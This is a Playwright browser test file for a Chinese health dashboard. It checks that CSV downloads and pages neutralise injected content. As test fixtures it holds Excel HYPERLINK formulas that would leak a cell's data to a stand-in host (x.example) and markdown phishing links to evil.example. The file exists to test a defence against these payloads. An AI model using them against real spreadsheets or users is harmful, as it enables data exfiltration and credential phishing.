"""Real browser: nothing from a user, a rules file or a link becomes a formula or a link (issue 14, item 3).

The app is served on a copy of the rules in which 江津区's name and the title of task WP2020-05 are
Excel ``HYPERLINK`` formulas, and with an administrator whose user name is one, added through
``accounts.add_user``. Signed in as that administrator, the test clicks the download buttons of the
audit trail, the indicator page and the tasks page (Playwright's ``expect_download``) and reads the
files: each hostile text is there, neutralised (``'`` in front), and no cell starts like a formula.
Then it opens links whose parameter is a markdown link to a phishing page and checks that the page
shows the text as typed and has no such link.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import urllib.parse
from pathlib import Path

import pytest
from browser_support import CHROMIUM, CHROMIUM_ARGS, ROOT, require_browser, serve, settle, shot, sign_in

pytestmark = pytest.mark.browser

LEAK_USER = '=HYPERLINK("https://x.example/?leak="&A2,"查看详情")'
PASSWORD = "a long test password"
AREA = '=HYPERLINK("https://x.example/?leak="&A2,"江津区")'
TASK_TITLE = '=HYPERLINK("https://x.example/?leak="&A2,"稳控妇幼健康重点指标")'
PHISH = "[点此重新登录](https://evil.example/login)"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _replace_once(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, (path, old)
    path.write_text(text.replace(old, new), encoding="utf-8")


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    require_browser()
    folder = tmp_path_factory.mktemp("injection")
    rules = folder / "rules"
    shutil.copytree(ROOT / "rules", rules)
    # A JSON string is a YAML double-quoted scalar.
    _replace_once(rules / "areas.yaml", "name_zh: 江津区\n", f"name_zh: {json.dumps(AREA, ensure_ascii=False)}\n")
    _replace_once(
        rules / "tasks" / "2020_city_workplan.yaml",
        'title: "稳控妇幼健康重点指标"',
        f"title: {json.dumps(TASK_TITLE, ensure_ascii=False)}",
    )
    with serve(folder, rules_dir=rules) as s:
        from dashboard.access import accounts
        from dashboard.store import Store

        store = Store(s.url)
        accounts.add_user(store.engine, LEAK_USER, PASSWORD, "admin", by="test")
        store.dispose()
        yield s


@pytest.fixture(scope="module")
def browser(server):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1600, "height": 1400}, locale="zh-CN", accept_downloads=True)
    pg = context.new_page()
    pg.set_default_timeout(45_000)
    yield pg
    context.close()


def _menu(pg, label: str) -> None:
    pg.locator(".st-key-app_menu").get_by_text(label, exact=True).click()
    settle(pg)


def _download(pg, button) -> list[list[str]]:
    """Click ``button``, take the file the browser downloads, its CSV cells (no cell runs as a formula)."""
    with pg.expect_download() as info:
        button.click()
    data = Path(info.value.path()).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel on Chinese Windows reads it
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            if cell.startswith(RISKY):
                float(cell.rstrip("%"))  # only a number may start so (-1.5); a formula raises here
    return rows


def test_downloads_neutralise_a_formula_user_name_and_hostile_names(server, page):
    page.goto(server.base + "/overview?area=500116&year=2024")
    settle(page, fresh=True)
    sign_in(page, LEAK_USER, PASSWORD)
    # The sidebar shows the name as text (the escape's word joiner is invisible), not as a link.
    assert LEAK_USER in page.locator('[data-testid="stSidebar"]').inner_text().replace("\u2060", "")
    assert page.locator('a[href*="x.example"]').count() == 0

    _menu(page, "审计日志")
    page.get_by_text("每次登录、上传、回滚和用户变更的记录").first.wait_for()
    rows = _download(page, page.locator(".st-key-audit_dl").get_by_role("button"))
    header = rows[0]
    users = {r[header.index("用户")] for r in rows[1:]}
    targets = {r[header.index("对象")] for r in rows[1:]}
    assert "'" + LEAK_USER in users and "'" + LEAK_USER in targets, rows[:4]

    _menu(page, "指标详情")  # the menu keeps area=500116: 江津区 and the city are shown
    button = page.locator('[data-testid="stDownloadButton"]').get_by_role("button", name="下载 CSV")
    button.wait_for()
    rows = _download(page, button)
    areas = {r[0] for r in rows[1:]}
    assert "'" + AREA in areas and "重庆市" in areas, areas

    _menu(page, "重点任务")
    rows = _download(page, page.locator(".st-key-tasks_csv").get_by_role("button"))
    titles = {r[1] for r in rows[1:]}
    assert "'" + TASK_TITLE in titles, sorted(titles)[:5]
    shot(page, "injection_tasks")


OTHER = "联系 admin@evil.example 或 www.evil.example/login"


@pytest.mark.parametrize(
    ("path", "param", "value", "shown"),
    [
        ("/task", "task", PHISH, [f"任务详情 · {PHISH}", f"找不到任务 {PHISH}。"]),
        ("/indicator", "indicator", PHISH, [f"链接中的指标“{PHISH}”不存在。"]),
        ("/overview", "area", OTHER, [f"链接中的地区“{OTHER}”不存在，已显示全市。"]),
    ],
)
def test_a_link_in_the_address_is_shown_as_text(server, page, path, param, value, shown):
    page.goto(server.base + path + "?" + urllib.parse.urlencode({param: value}))
    main = page.locator('[data-testid="stMain"]')
    main.get_by_text("evil").first.wait_for()  # (the indicator page refuses before its title: no h1)
    settle(page)
    # Shown as typed (the escape's word joiners are invisible; the reader sees the text as in the link).
    lines = [line.replace("\u2060", "") for line in main.inner_text().splitlines()]
    for text in shown:
        assert text in lines, lines[:12]
    hrefs = page.locator("a").evaluate_all("links => links.map(a => a.href)")
    # (The page's own anchors carry its address, parameter included: only where a link leads counts.)
    assert not [h for h in hrefs if "evil.example" in urllib.parse.urlsplit(h).netloc + h.split("?")[0]], hrefs
    shot(page, f"injection_link_{param}")
